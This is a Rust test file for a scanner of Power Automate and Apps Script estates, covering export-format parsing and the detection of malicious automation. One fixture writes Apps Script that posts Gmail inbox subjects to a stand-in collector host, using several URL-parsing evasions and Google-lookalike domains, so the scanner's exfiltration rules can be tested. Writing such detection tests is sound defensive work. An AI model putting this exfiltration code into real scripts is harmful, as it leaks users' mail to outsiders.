//! Real export shapes and real code: every Power Automate export shape in one folder (from the
//! public flows of `tests/corpus`), one unreadable item in each provider's export, the Apps Script
//! host-parsing evasions, and the real-world corpus held to its judgements.

use std::path::Path;

use serde_json::{Value, json};

use crate::harness::{copy_dir, coverage, fnscope, json_file, repo, stderr, stdout};

fn corpus_flows() -> std::path::PathBuf {
    repo().join("tests/corpus/estate/power-automate/Default-corpus/flows")
}

/// `items` of the corpus's flows folder copied into `to`.
fn copy_items(to: &Path, items: &[&str]) {
    for i in items {
        copy_dir(&corpus_flows().join(i), &to.join(i));
    }
}

fn utf16(text: &str, little: bool) -> Vec<u8> {
    let mut out = if little {
        vec![0xFF, 0xFE]
    } else {
        vec![0xFE, 0xFF]
    };
    for u in text.encode_utf16() {
        out.extend(if little {
            u.to_le_bytes()
        } else {
            u.to_be_bytes()
        });
    }
    out
}

/// What `Get-AdminFlow -EnvironmentName E -FlowName F | ConvertTo-Json -Depth 100` prints around
/// the REST object (PowerShell's own fields, the object under `Internal`).
fn get_admin_flow(rest: &Value, id: &str, enabled: bool) -> Value {
    let mut internal = rest.clone();
    internal["name"] = Value::from(id);
    internal["id"] = Value::from(format!(
        "/providers/Microsoft.ProcessSimple/environments/Default-e1dd4023-a656-480a-8a0e-c1b1eec51e1d/flows/{id}"
    ));
    internal["properties"]["state"] = Value::from(if enabled { "Started" } else { "Stopped" });
    json!({
        "FlowName": id,
        "Enabled": enabled,
        "DisplayName": rest["properties"]["displayName"],
        "EnvironmentName": "Default-e1dd4023-a656-480a-8a0e-c1b1eec51e1d",
        "CreatedTime": "2024-02-01T10:00:00Z",
        "Internal": internal
    })
}

/// (id suffix, name, state) of every flow in a saved snapshot.
fn flows(snapshot: &Value) -> Vec<(String, String, String)> {
    let mut out: Vec<(String, String, String)> = snapshot["workloads"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| w["kind"] == "power_automate_flow")
        .map(|w| {
            (
                w["id"]
                    .as_str()
                    .unwrap()
                    .rsplit('/')
                    .next()
                    .unwrap()
                    .to_string(),
                w["name"].as_str().unwrap().to_string(),
                w["state"].as_str().unwrap_or("-").to_string(),
            )
        })
        .collect();
    out.sort();
    out
}

#[test]
fn every_power_automate_export_shape_reads_in_one_folder_and_a_bad_one_is_a_record() {
    let dir = tempfile::tempdir().unwrap();
    let root = dir.path().join("estate");
    // The AWS example account beside it: a bad flow must not stop the other providers.
    copy_dir(&repo().join("examples/estate/aws"), &root.join("aws"));
    let flows_dir = root.join("power-automate/Default-mixed/flows");
    copy_items(
        &flows_dir,
        &[
            // A solution .zip and the same solution as `pac solution unpack` left it (read once).
            "kkazala-powerautomate-get-data-source-list-info__parselistdatasourceinfo-1-0-0-0-zip",
            "kkazala-powerautomate-get-data-source-list-info__parselistdatasourceinfo-unmanaged-src",
            // A legacy package .zip and the same package unzipped.
            "pnp-powerautomate-samples__try-catch-finally-zip",
            "pnp-powerautomate-samples__try-catch-finally-pkg",
            // An unzipped solution (solution.xml, customizations.xml, Workflows/ at its root).
            "pnp-powerautomate-samples__sharepoint-group-creation-with-user-added-src",
        ],
    );
    // Get-AdminFlow output as Windows PowerShell 5.1 writes it (UTF-16LE with a mark), as
    // PowerShell 7 on a big-endian editor's save (UTF-16BE), and with a UTF-8 mark, around the
    // real REST object of the corpus.
    let rest = json_file(&corpus_flows().join("pnp-cli-microsoft365__rest/flow-get.json"));
    let ps = flows_dir.join("powershell");
    std::fs::create_dir_all(&ps).unwrap();
    let one =
        |id: &str, on: bool| serde_json::to_string_pretty(&get_admin_flow(&rest, id, on)).unwrap();
    std::fs::write(
        ps.join("flow-utf16le.json"),
        utf16(&one("11111111-1111-4111-8111-111111111111", true), true),
    )
    .unwrap();
    std::fs::write(
        ps.join("flow-utf16be.json"),
        utf16(&one("22222222-2222-4222-8222-222222222222", false), false),
    )
    .unwrap();
    let mut bom = vec![0xEF, 0xBB, 0xBF];
    bom.extend(format!("[{}]", one("33333333-3333-4333-8333-333333333333", true)).bytes());
    std::fs::write(ps.join("flows-utf8bom.json"), bom).unwrap();
    // Without -Depth, ConvertTo-Json cuts the REST object into a string.
    std::fs::write(
        ps.join("list-no-depth.json"),
        json!([{"FlowName": "44444444-4444-4444-8444-444444444444", "DisplayName": "Cut short",
                "Enabled": true, "Internal": "@{name=44444444-4444-4444-8444-444444444444; id=/providers/Microsoft.ProcessSimple/environments/E/flows/44444444-4444-4444-8444-444444444444; type=Microsoft.ProcessSimple/environments/flows; properties=}"}])
        .to_string(),
    )
    .unwrap();
    // Dataverse `workflows` rows: a cloud flow (category 5) whose definition is the real solution
    // flow's JSON as a string, and a classic workflow (category 0) that is not one.
    let workflow = std::fs::read_to_string(corpus_flows().join(
        "kkazala-powerautomate-get-data-source-list-info__parselistdatasourceinfo-unmanaged-src/Workflows/test-60D9A8DC-3D8E-EF11-8A69-002248DB43E4.json",
    ))
    .unwrap();
    std::fs::write(
        flows_dir.join("dataverse-workflows.json"),
        json!({"@odata.context": "https://org.crm.dynamics.com/api/data/v9.2/$metadata#workflows",
               "value": [
                 {"workflowid": "55555555-5555-4555-8555-555555555555", "name": "From Dataverse", "category": 5,
                  "statecode": 0, "clientdata": workflow.trim_start_matches('\u{feff}')},
                 {"workflowid": "66666666-6666-4666-8666-666666666666", "name": "Classic", "category": 0, "statecode": 1}
               ]})
        .to_string(),
    )
    .unwrap();
    // A flow file cut off half-way among the good ones.
    std::fs::write(
        flows_dir.join("broken-77777777-7777-4777-8777-777777777777.json"),
        &workflow.as_bytes()[..workflow.len() / 2],
    )
    .unwrap();

    let snap = dir.path().join("s.json");
    let out = fnscope(
        None,
        dir.path(),
        &[
            "scan",
            "--offline",
            root.to_str().unwrap(),
            "--format",
            "json",
            "--save",
            snap.to_str().unwrap(),
        ],
    );
    // Findings (the AWS account's) decide the code; the bad flow does not end the scan.
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report: Value = serde_json::from_str(&stdout(&out)).unwrap();
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["provider"] == "aws"),
        "the other providers are evaluated"
    );
    let got = flows(&json_file(&snap));
    let want: Vec<(String, String, String)> = [
        (
            "031abda2-427b-ef11-ac20-002248617a98",
            "Get Data Source List Info",
            "Started",
        ),
        ("11111111-1111-4111-8111-111111111111", "TEST", "Started"),
        (
            "1e768a80-7778-4c66-89d6-46fd55e8a6fa",
            "Pattern: Try-Catch-Finally",
            "-",
        ),
        ("22222222-2222-4222-8222-222222222222", "TEST", "Stopped"),
        (
            "2578e499-0be1-ec11-bb3c-000d3a233a82",
            "Flow - Create SharePoint Group and Ensure Users as Members",
            "Started",
        ),
        ("33333333-3333-4333-8333-333333333333", "TEST", "Started"),
        (
            "44444444-4444-4444-8444-444444444444",
            "Cut short",
            "Started",
        ),
        (
            "55555555-5555-4555-8555-555555555555",
            "From Dataverse",
            "Stopped",
        ),
        ("60d9a8dc-3d8e-ef11-8a69-002248db43e4", "test", "Started"),
    ]
    .iter()
    .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
    .collect();
    assert_eq!(got, want);
    let list = coverage(&report, "flow:flows.list");
    assert_eq!(list["status"], "partial");
    let detail = list["detail"].as_str().unwrap();
    assert!(detail.starts_with("9 flows"), "{detail}");
    assert!(detail.contains("read twice"), "{detail}");
    assert!(
        detail.contains("1 classic workflows (solution category 0)"),
        "{detail}"
    );
    let records: Vec<String> = report["coverage"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["api"] == "flow:export")
        .map(|c| c["detail"].as_str().unwrap().to_string())
        .collect();
    assert_eq!(records.len(), 2, "{records:#?}");
    assert!(
        records
            .iter()
            .any(|r| r.contains("broken-77777777") && r.contains("not valid JSON at line")),
        "{records:#?}"
    );
    assert!(
        records
            .iter()
            .any(|r| r.contains("list-no-depth.json") && r.contains("-Depth 100")),
        "{records:#?}"
    );
}

#[test]
fn one_unreadable_item_is_a_record_and_the_rest_is_evaluated_in_every_provider() {
    let dir = tempfile::tempdir().unwrap();
    let copy = dir.path().join("estate");
    copy_dir(&repo().join("examples/estate"), &copy);
    let scan = || {
        fnscope(
            None,
            dir.path(),
            &[
                "scan",
                "--offline",
                copy.to_str().unwrap(),
                "--format",
                "json",
            ],
        )
    };
    let clean: Value = serde_json::from_str(&stdout(&scan())).unwrap();
    let first_json = |folder: &Path| {
        let mut files: Vec<_> = std::fs::read_dir(folder)
            .unwrap()
            .map(|e| e.unwrap().path())
            .filter(|p| p.extension().is_some_and(|x| x == "json"))
            .collect();
        files.sort();
        files[0].clone()
    };
    // One item file of each provider, cut short.
    let items = [
        (
            "aws",
            first_json(&copy.join("aws/111122223333/us-east-1/lambda/get-policy")),
        ),
        (
            "gcp",
            first_json(&copy.join("gcp/acme-fn-prod/invoker-iam-policies")),
        ),
        (
            "azure",
            first_json(&copy.join("azure/5f1d0c0a-1111-4222-8333-944455556666/functions")),
        ),
        (
            "power-automate",
            first_json(
                &copy.join("power-automate/Default-72f988bf-0000-4000-8000-2d7cd011db47/flows"),
            ),
        ),
    ];
    for (_, f) in &items {
        std::fs::write(f, "{\"cut\": ").unwrap();
    }
    // An Apps Script file with a syntax error in a project whose other file is read.
    let bad = copy.join("apps-script/northwind.example/projects/invoice-sync/Broken.gs");
    std::fs::write(&bad, "function half(\n  var x = ;\n").unwrap();
    let out = scan();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report: Value = serde_json::from_str(&stdout(&out)).unwrap();
    let partial: Vec<(String, String)> = report["coverage"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|c| c["status"] == "partial")
        .map(|c| {
            (
                c["provider"].as_str().unwrap().to_string(),
                c["detail"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    for (provider, file) in &items {
        let name = file.file_name().unwrap().to_str().unwrap();
        assert!(
            partial
                .iter()
                .any(|(p, d)| p == provider && d.contains(name)),
            "{provider}: no partial record naming {name}: {partial:#?}"
        );
    }
    assert!(
        partial.iter().any(|(p, d)| p == "apps-script"
            && d.contains("Broken.gs:2:")
            && d.contains("other files")),
        "{partial:#?}"
    );
    // Everything else is still judged: most of the clean run's findings are there.
    let n = |r: &Value| r["findings"].as_array().unwrap().len();
    assert!(
        n(&report) * 10 >= n(&clean) * 8,
        "{} of {}",
        n(&report),
        n(&clean)
    );
    // The Apps Script project with the broken file keeps its finding from the other file.
    assert!(
        report["findings"]
            .as_array()
            .unwrap()
            .iter()
            .any(|f| f["rule_id"] == "T1648-GWS-001" && f["subject"]["name"] == "Invoice sync")
    );
    // The whole file the CLI always writes stays a clear error naming it.
    std::fs::write(
        copy.join("aws/111122223333/us-east-1/lambda/list-functions.json"),
        "{",
    )
    .unwrap();
    let out = fnscope(
        None,
        dir.path(),
        &["scan", "--offline", copy.to_str().unwrap()],
    );
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stderr(&out).contains("list-functions.json"),
        "{}",
        stderr(&out)
    );
}

#[test]
fn apps_script_hosts_are_read_as_a_url_parser_reads_them() {
    let dir = tempfile::tempdir().unwrap();
    let project = dir
        .path()
        .join("estate/apps-script/northwind.example/projects/relay");
    std::fs::create_dir_all(&project).unwrap();
    std::fs::write(
        project.join("appsscript.json"),
        r#"{"timeZone": "Etc/UTC", "runtimeVersion": "V8"}"#,
    )
    .unwrap();
    std::fs::write(
        project.join("Config.gs"),
        "const COLLECTOR = 'collector.evil.example';\nconst LOCATION = PropertiesService.getScriptProperties().getProperty('loc');\n",
    )
    .unwrap();
    std::fs::write(
        project.join("Code.gs"),
        r#"function install() { ScriptApp.newTrigger('nightly').timeBased().everyDays(1).create(); }
function nightly() {
  var body = GmailApp.getInboxThreads(0, 10).map(function (t) { return t.getFirstMessageSubject(); }).join('\n');
  var opts = {method: 'post', payload: body};
  UrlFetchApp.fetch('https://corp.example:x@collector.evil.example/c', opts);
  UrlFetchApp.fetch('https://northwind.example@collector.evil.example/c', opts);
  UrlFetchApp.fetch('HTTPS://COLLECTOR.EVIL.EXAMPLE./c', opts);
  UrlFetchApp.fetch('https://' + COLLECTOR + '/c', opts);
  UrlFetchApp.fetch(`https://${COLLECTOR}:8443/c`, opts);
  UrlFetchApp.fetch('https://www.googleapis.com.evil.example/upload', opts);
  UrlFetchApp.fetch('https://script.google.com/macros/s/AKfycbx/exec', opts);
  UrlFetchApp.fetch('https://docs.google.com/forms/d/e/1FAIpQL/formResponse', opts);
  UrlFetchApp.fetch('https://mail.northwind.example/archive', opts);
  var auth = {method: 'post', payload: body, headers: {Authorization: 'Bearer ' + ScriptApp.getOAuthToken()}};
  UrlFetchApp.fetch('https://' + LOCATION + '-aiplatform.googleapis.com/v1/projects/p/models/m:predict', auth);
  UrlFetchApp.fetch('https://www.googleapis.com/drive/v3/files', auth);
}
"#,
    )
    .unwrap();
    let out = fnscope(
        None,
        dir.path(),
        &[
            "scan",
            "apps-script",
            "--offline",
            dir.path().join("estate").to_str().unwrap(),
            "--format",
            "json",
        ],
    );
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report: Value = serde_json::from_str(&stdout(&out)).unwrap();
    let mut got: Vec<(String, String, String)> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule_id"] == "T1648-GWS-001" || f["rule_id"] == "T1648-GWS-005")
        .map(|f| {
            (
                f["rule_id"].as_str().unwrap().to_string(),
                f["target"]["name"].as_str().unwrap().to_string(),
                f["severity"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    got.sort();
    let want: Vec<(String, String, String)> = [
        // Five ways of writing the same host are one destination.
        ("T1648-GWS-001", "collector.evil.example", "critical"),
        // Google-looking hosts that deliver to someone else.
        ("T1648-GWS-001", "docs.google.com", "critical"),
        ("T1648-GWS-001", "script.google.com", "critical"),
        (
            "T1648-GWS-001",
            "www.googleapis.com.evil.example",
            "critical",
        ),
    ]
    .iter()
    .map(|(a, b, c)| (a.to_string(), b.to_string(), c.to_string()))
    .collect();
    // The domain's own host and Google's APIs with the user's token: nothing (no GWS-005 at all).
    assert_eq!(got, want);
    let collector = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["target"]["name"] == "collector.evil.example")
        .unwrap();
    let places: Vec<&str> = collector["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["kind"] == "code")
        .map(|e| e["path"].as_str().unwrap())
        .collect();
    assert_eq!(places.len(), 5, "{places:?}");
    let reach = collector["evidence"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["kind"] == "reach")
        .unwrap();
    assert!(
        reach["detail"]
            .as_str()
            .unwrap()
            .contains("installable trigger"),
        "{reach}"
    );
}

/// Runs the offline scan of one provider of the corpus and judges it.
fn judged(provider: &str) -> (fnscope_corpus::Verdict, fnscope_corpus::Judgements, Value) {
    let (v, j, _, snapshot) = judged_set("tests/corpus", provider);
    (v, j, snapshot)
}

/// Runs the offline scan of one provider of a judged set (`tests/corpus`, `tests/labs`: an
/// `estate/`, `<provider>.toml` judgements, an optional `fnscope.toml`) and judges it; also returns
/// the report and the snapshot.
pub(crate) fn judged_set(
    set: &str,
    provider: &str,
) -> (
    fnscope_corpus::Verdict,
    fnscope_corpus::Judgements,
    Value,
    Value,
) {
    let dir = tempfile::tempdir().unwrap();
    let corpus = repo().join(set);
    let snap = dir.path().join("s.json");
    let estate = corpus.join("estate");
    let config = corpus.join("fnscope.toml");
    let mut args = vec![
        "scan",
        provider,
        "--offline",
        estate.to_str().unwrap(),
        "--format",
        "json",
        "--fail-on",
        "none",
        "--save",
        snap.to_str().unwrap(),
    ];
    if config.exists() {
        args.extend(["--config", config.to_str().unwrap()]);
    }
    let out = fnscope(None, dir.path(), &args);
    assert!(matches!(out.status.code(), Some(0 | 3)), "{}", stderr(&out));
    let report: Value = serde_json::from_str(&stdout(&out)).unwrap();
    let file = corpus.join(format!("{provider}.toml"));
    let j = fnscope_corpus::parse_judgements(
        &file.display().to_string(),
        &std::fs::read_to_string(&file).unwrap(),
    )
    .unwrap();
    let v = fnscope_corpus::judge(&report, &j).unwrap();
    // The snapshot format holds: what was written reads back and writes out byte for byte.
    let bytes = std::fs::read(&snap).unwrap();
    let again =
        fnscope_snapshot::to_vec(&fnscope_snapshot::from_slice(&bytes, &snap).unwrap()).unwrap();
    assert!(
        bytes == again,
        "{set} {provider}: the snapshot does not re-serialise unchanged"
    );
    (v, j, report, json_file(&snap))
}

fn hold_to_judgements(provider: &str, workload_kind: &str) {
    hold_set_to_judgements("tests/corpus", provider, workload_kind);
}

fn hold_set_to_judgements(set: &str, provider: &str, workload_kind: &str) -> Value {
    let (v, j, report, snapshot) = judged_set(set, provider);
    let table = fnscope_corpus::render(&v);
    let t = v.totals();
    assert_eq!(
        t.unjudged, 0,
        "every critical or high finding is judged:\n{table}"
    );
    let unexplained: Vec<_> = v.missed.iter().filter(|m| m.limit.is_none()).collect();
    assert!(unexplained.is_empty(), "expected findings missed:\n{table}");
    let wrong: Vec<_> = v
        .seen
        .iter()
        .filter(|s| s.verdict == Some(false) && s.limit.is_none())
        .collect();
    assert!(
        wrong.is_empty(),
        "false findings that are no known limit:\n{table}"
    );
    if let Some(p) = fnscope_corpus::Verdict::precision(&t) {
        assert!(p >= 0.9, "precision {p}:\n{table}");
    }
    let read = snapshot["workloads"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| w["kind"] == workload_kind)
        .count();
    assert_eq!(
        Some(read),
        j.workloads,
        "every workload of the corpus is read"
    );
    report
}

/// Published attack tooling (tests/offensive: power-pwn, powerful, google_RAT), read in the shapes
/// the kits ship: every expected finding at critical or high, nothing unjudged.
#[test]
fn offensive_material_meets_its_judgements() {
    hold_set_to_judgements("tests/offensive", "apps-script", "apps_script_project");
    let report = hold_set_to_judgements("tests/offensive", "power-automate", "power_automate_flow");
    let findings = report["findings"].as_array().unwrap();
    let find = |rule: &str, flow: &str| {
        findings
            .iter()
            .find(|f| f["rule_id"] == rule && f["subject"]["name"] == flow)
            .unwrap_or_else(|| panic!("no {rule} on {flow}"))
    };
    let evidence = |f: &Value| -> Vec<(String, String, String)> {
        f["evidence"]
            .as_array()
            .unwrap()
            .iter()
            .map(|e| {
                (
                    e["kind"].as_str().unwrap().to_string(),
                    e["detail"].as_str().unwrap().to_string(),
                    e["path"].as_str().unwrap().to_string(),
                )
            })
            .collect()
    };
    // The SAS backdoor: the link step and the Response that hands it to the caller.
    let sas = find("T1648-PA-002", "PWN-sas");
    assert_eq!(sas["severity"], "critical");
    let e = evidence(sas);
    assert!(
        e.iter()
            .any(|(_, d, _)| d.contains("CreateShareLinkByPath")),
        "{e:?}"
    );
    assert!(e.iter().any(|(_, _, p)| p == "Response"), "{e:?}");
    // The Flow Factory: named by its trigger and the CreateFlow step's path, fed by the caller.
    let factory = find("T1648-PA-008", "Flow Factory");
    assert_eq!(factory["severity"], "critical");
    let e = evidence(factory);
    assert!(
        e.iter()
            .any(|(k, d, p)| k == "trigger" && p == "triggers.manual" && d.contains("signed URL")),
        "{e:?}"
    );
    assert!(
        e.iter().any(|(k, d, p)| k == "action"
            && p == "Scope/Switch/Create_Flow"
            && d.contains("creates a flow")
            && d.contains("what starts the flow")),
        "{e:?}"
    );
    // A desktop flow run on request: the desktop flow and its run mode named.
    let rce = find("T1648-PA-008", "Run CodeExec");
    assert!(
        rce["target"]["name"]
            .as_str()
            .unwrap()
            .starts_with("desktop flow d37da402-3829-492f-90d0-8ec3909514eb"),
        "{rce}"
    );
}

#[test]
fn apps_script_corpus_meets_its_judgements() {
    hold_to_judgements("apps-script", "apps_script_project");
    let (v, _, _) = judged("apps-script");
    assert!(
        v.incomplete
            .iter()
            .all(|c| c.starts_with("directory:tokens.list")),
        "every project's code is read: {:#?}",
        v.incomplete
    );
}

#[test]
fn power_automate_corpus_meets_its_judgements() {
    hold_to_judgements("power-automate", "power_automate_flow");
}
